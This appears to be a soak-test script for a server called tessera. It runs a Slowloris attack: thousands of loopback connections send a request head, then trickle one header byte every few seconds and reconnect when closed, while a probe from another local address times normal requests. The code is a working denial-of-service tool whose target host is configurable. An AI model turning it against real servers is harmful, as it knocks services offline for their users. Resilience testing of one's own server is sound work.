#!/usr/bin/env python3
"""Slowloris against a running tessera, and how long a client from another address waits.

Not part of the test run: it holds thousands of sockets for a minute. Loopback only; every
attacker address is in 127/8 (all local on Linux), bound before connecting.

    tessera --root DIR --listen 127.0.0.1:8080 &
    python3 tests/soak/slowloris.py --port 8080 --path /iiif/3/grid.tif/info.json

Default attack: 600 connections from 127.0.0.2 and 4,200 spread over 127.0.0.3-11, each
sending a request head and then one header byte every --interval seconds, reconnecting
--reconnect-delay seconds after the server closes it (the attacker keeps the pressure on). A
probe from 127.0.0.20 asks for --path on a new connection every --probe-every seconds and
records the time to a whole answer.
"""
import argparse
import asyncio
import resource
import statistics
import time

HEAD = b"GET /iiif/3/x/info.json HTTP/1.1\r\nHost: x\r\nX-a: "


class Tally:
    def __init__(self):
        self.open = 0
        self.opened = 0
        self.closed_by_server = 0
        self.connect_failed = 0


async def trickler(host, port, source, interval, reconnect_delay, stop, tally):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(source, 0)), 10)
            writer.write(HEAD)
            await writer.drain()
        except (OSError, asyncio.TimeoutError):
            tally.connect_failed += 1
            await asyncio.sleep(interval)
            continue
        tally.open += 1
        tally.opened += 1
        try:
            while not stop.is_set():
                try:
                    await asyncio.wait_for(reader.read(1), interval)
                    break  # an answer or end of file: the server let go
                except asyncio.TimeoutError:
                    pass
                writer.write(b"a")
                await writer.drain()
        except OSError:
            pass
        tally.open -= 1
        if not stop.is_set():
            tally.closed_by_server += 1
        writer.close()
        await asyncio.sleep(reconnect_delay)


async def probe(host, port, source, path, timeout):
    t0 = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, local_addr=(source, 0)), timeout)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        await writer.drain()
        data = await asyncio.wait_for(reader.read(), timeout - (time.monotonic() - t0))
        writer.close()
        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else -1
    except (OSError, asyncio.TimeoutError, ValueError, IndexError):
        status = -1
    return status, time.monotonic() - t0


async def main(a):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = a.one + a.spread + 64
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, need), hard))
    stop = asyncio.Event()
    tally = Tally()
    tasks = []
    for i in range(a.one):
        tasks.append(asyncio.create_task(
            trickler(a.host, a.port, "127.0.0.2", a.interval, a.reconnect_delay, stop, tally)))
    for i in range(a.spread):
        src = f"127.0.0.{3 + i % a.spread_addresses}"
        tasks.append(asyncio.create_task(
            trickler(a.host, a.port, src, a.interval, a.reconnect_delay, stop, tally)))
    start = time.monotonic()
    results = []
    await asyncio.sleep(a.warmup)
    while time.monotonic() - start < a.duration:
        status, took = await probe(a.host, a.port, "127.0.0.20", a.path, a.probe_timeout)
        results.append((time.monotonic() - start, status, took))
        print(f"t={results[-1][0]:5.1f}s probe {status} in {took * 1000:7.1f} ms; attacker "
              f"connections open {tally.open}, opened {tally.opened}, closed by the server "
              f"{tally.closed_by_server}, connects failed {tally.connect_failed}", flush=True)
        await asyncio.sleep(a.probe_every)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    times = [r[2] * 1000 for r in results]
    ok = sum(1 for r in results if r[1] == 200)
    print(f"probes: {len(results)}, {ok} answered 200; wait median {statistics.median(times):.1f}"
          f" ms, max {max(times):.1f} ms")


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8080)
    p.add_argument("--path", default="/health")
    p.add_argument("--one", type=int, default=600, help="connections from 127.0.0.2")
    p.add_argument("--spread", type=int, default=4200, help="connections over other addresses")
    p.add_argument("--spread-addresses", type=int, default=9)
    p.add_argument("--interval", type=float, default=3.0, help="seconds between header bytes")
    p.add_argument("--reconnect-delay", type=float, default=1.0,
                   help="seconds before a closed attacker connection comes back")
    p.add_argument("--warmup", type=float, default=3.0, help="attack alone before probing")
    p.add_argument("--duration", type=float, default=45.0)
    p.add_argument("--probe-every", type=float, default=1.0)
    p.add_argument("--probe-timeout", type=float, default=60.0)
    asyncio.run(main(p.parse_args()))
